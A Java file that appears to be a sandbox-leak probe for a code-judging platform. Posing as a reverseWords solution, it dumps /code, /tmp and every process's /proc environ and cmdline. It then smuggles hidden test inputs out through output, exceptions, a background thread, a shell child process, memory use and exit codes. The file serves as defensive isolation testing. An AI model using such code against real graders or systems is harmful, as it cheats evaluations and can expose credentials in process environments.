// Tries every way to get a function-mode run's hidden tests out to the candidate: what /code, /tmp
// and /proc hold at load time, the value and the error of public cases, a thread and a child
// process that print what comes later, and the exit code, time and memory of the run.
import java.io.File;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.stream.Stream;

class Solution {
  static final List<String> seen = Collections.synchronizedList(new ArrayList<>());

  static {
    System.out.println("load dump " + listing(true));
    Thread watcher =
        new Thread(
            () -> {
              int count = 0;
              while (true) {
                if (seen.size() != count) {
                  count = seen.size();
                  System.out.println("thread saw " + count + ": " + joined());
                }
                try {
                  Thread.sleep(20);
                } catch (InterruptedException e) {
                  return;
                }
              }
            });
    watcher.setDaemon(true);
    watcher.start();
  }

  static String joined() {
    synchronized (seen) {
      return String.join(" | ", seen);
    }
  }

  static String read(Path path, int limit) {
    try (InputStream in = Files.newInputStream(path)) {
      return new String(in.readNBytes(limit), StandardCharsets.UTF_8).replace('\0', ' ');
    } catch (IOException e) {
      return "<" + e + ">";
    }
  }

  static String listing(boolean full) {
    List<String> parts = new ArrayList<>();
    for (String dir : List.of("/code", "/tmp")) {
      try (Stream<Path> entries = Files.list(Path.of(dir))) {
        for (Path path : entries.sorted().toList()) {
          String name = path.getFileName().toString();
          boolean source =
              dir.equals("/code") && name.matches("(main|Main|solution|Solution)\\..*|\\.coderoom-.*");
          if (Files.isRegularFile(path) && Files.size(path) > 0 && !source) {
            parts.add(path + ": " + read(path, full ? 1500 : 300));
          } else {
            parts.add(path.toString());
          }
        }
      } catch (IOException e) {
        parts.add(dir + " <" + e + ">");
      }
    }
    if (full) {
      try (Stream<Path> entries = Files.list(Path.of("/proc"))) {
        for (Path pid : entries.filter(p -> p.getFileName().toString().matches("\\d+")).toList()) {
          parts.add(pid + ": " + read(pid.resolve("cmdline"), 300) + " | " + read(pid.resolve("environ"), 300));
        }
      } catch (IOException e) {
        parts.add("/proc <" + e + ">");
      }
    }
    return String.join("; ", parts);
  }

  public String reverseWords(String s) throws Exception {
    // The curated problem's third example is answered plainly and not counted (see leak.py).
    if (s.equals("coding  is   fun")) {
      return "fun is coding";
    }
    seen.add(s);
    int n = seen.size();
    if (n == 1) {
      return "case0 returns " + listing(false) + "; seen " + joined();
    }
    if (n == 2) {
      throw new IllegalStateException("case1 throws " + listing(false) + "; seen " + joined());
    }
    if (n == 3) {
      System.out.println("hidden prints " + s);
      new ProcessBuilder("/bin/sh", "-c", "sleep 0.2; echo \"child carries $0\"", s)
          .redirectInput(ProcessBuilder.Redirect.from(new File("/dev/null")))
          .redirectOutput(ProcessBuilder.Redirect.INHERIT)
          .start();
      throw new IllegalStateException("hidden throws " + s);
    }
    if (n == 4) {
      new ProcessBuilder("/bin/sh", "-c", "head -c 400000000 /dev/zero | tail -n 1 > /dev/null")
          .redirectInput(ProcessBuilder.Redirect.from(new File("/dev/null")))
          .start()
          .waitFor();
      Thread.sleep(1500);
      System.out.println("hidden exits " + s);
      System.out.flush();
      Runtime.getRuntime().halt(42);
    }
    List<String> words = new ArrayList<>(List.of(s.trim().split("\\s+")));
    Collections.reverse(words);
    return String.join(" ", words);
  }
}
